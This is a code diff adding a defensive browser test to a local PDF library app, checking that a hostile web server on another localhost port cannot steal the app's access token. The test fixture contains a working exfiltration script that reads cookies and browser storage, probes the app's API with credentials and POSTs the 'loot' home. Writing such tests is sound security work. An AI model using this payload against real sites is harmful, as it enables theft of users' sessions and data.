@@ -1,7 +1,10 @@
 import { spawnSync } from 'node:child_process';
 import fs from 'node:fs';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
+import { TESO_PDF } from '../helpers/pdfs';
 import { BIN, expect, SEED_DIGEST, SHOTS, startServe, test } from './serve';
 
 // A digest whose text is an attack: script tags, an image whose error handler runs code, and
@@ -138,5 +141,70 @@ test('a damaged library is restored from its backup at start, and the window say
     expect(fs.readdirSync(path.join(library, 'damaged')).some((f) => f.endsWith('.sqlite'))).toBe(true);
   } finally {
     await stop();
+  }
+});
+
+/** What a neighbouring web server on 127.0.0.1 (a dev server, Jupyter, another user's listener) receives. */
+interface Received {
+  method: string;
+  url: string;
+  headers: Record<string, string | string[] | undefined>;
+  body: string;
+}
+
+// The neighbour's page does what a hostile local page can: read its cookies and storage, and
+// try Lectern's API and PDFs with the browser's credentials, then send everything home.
+const NEIGHBOUR_PAGE = (lectern: number) => `<!doctype html><title>neighbour</title><script>
+(async () => {
+  const loot = { cookie: document.cookie, local: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage) };
+  for (const path of ['/api/libraryInfo', '/pdf/1']) {
+    try { await fetch('http://127.0.0.1:${lectern}' + path, { method: path.startsWith('/api') ? 'POST' : 'GET', mode: 'no-cors', credentials: 'include', body: path.startsWith('/api') ? '{}' : undefined }); } catch {}
+  }
+  await fetch('/loot', { method: 'POST', body: JSON.stringify(loot) });
+  document.title = 'done';
+})();
+</script>`;
+
+test('another web server on 127.0.0.1 never receives anything that opens the API (cookies are not scoped by port)', async ({ page, context, request, served }) => {
+  const run = (...args: string[]) => spawnSync(process.execPath, [BIN, '--library', served.library, ...args], { encoding: 'utf8' });
+  expect(run('import', SEED_DIGEST).status).toBe(0);
+  expect(run('attach', '1', TESO_PDF).status).toBe(0);
+
+  const received: Received[] = [];
+  const neighbour = http.createServer((req, res) => {
+    let body = '';
+    req.on('data', (c) => (body += c));
+    req.on('end', () => {
+      received.push({ method: req.method!, url: req.url!, headers: req.headers, body });
+      res.writeHead(200, { 'Content-Type': 'text/html' });
+      res.end(NEIGHBOUR_PAGE(served.port));
+    });
+  });
+  await new Promise<void>((resolve) => neighbour.listen(0, '127.0.0.1', resolve));
+  const other = `http://127.0.0.1:${(neighbour.address() as AddressInfo).port}`;
+  try {
+    // Use Lectern as a user does: the library, then a PDF in the reader.
+    await page.goto(served.url);
+    await page.getByRole('grid', { name: 'Library' }).getByRole('row').nth(1).dblclick();
+    await expect(page.locator('.page[data-page-number="1"] canvas')).toBeVisible({ timeout: 20_000 });
+    // Then the neighbour, in the same tab and in a new one.
+    await page.goto(`${other}/same-tab`);
+    await expect(page).toHaveTitle('done');
+    const second = await context.newPage();
+    await second.goto(`${other}/new-tab`);
+    await expect(second).toHaveTitle('done');
+
+    expect(received.map((r) => r.url).filter((u) => u !== '/favicon.ico')).toEqual(['/same-tab', '/loot', '/new-tab', '/loot']);
+    for (const r of received) expect(JSON.stringify(r), r.url).not.toContain(served.token);
+    expect((await context.cookies()).filter((c) => c.value.includes(served.token))).toEqual([]);
+    // Whatever it did receive, replayed to Lectern as the neighbour's owner could, opens nothing.
+    for (const r of received) {
+      const headers = Object.fromEntries(Object.entries(r.headers).filter(([k]) => !['host', 'content-length', 'connection'].includes(k)).map(([k, v]) => [k, String(v)]));
+      const call = await request.post(`${served.origin}/api/libraryInfo`, { headers: { ...headers, 'Content-Type': 'application/json' }, data: {} });
+      expect(call.status(), r.url).toBe(403);
+      expect((await request.get(`${served.origin}/pdf/1`, { headers })).status()).toBe(403);
+    }
+  } finally {
+    await new Promise((resolve) => neighbour.close(resolve));
   }
 });
